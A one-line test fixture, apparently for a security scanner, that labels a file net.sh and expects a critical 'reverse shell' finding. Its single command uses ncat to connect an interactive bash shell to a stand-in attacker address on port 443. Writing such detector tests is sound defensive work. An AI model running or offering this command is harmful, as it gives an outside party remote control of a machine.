# expect: shell.reverse_shell critical
# path: net.sh
ncat --sh-exec "/bin/bash -i" 203.0.113.7 443
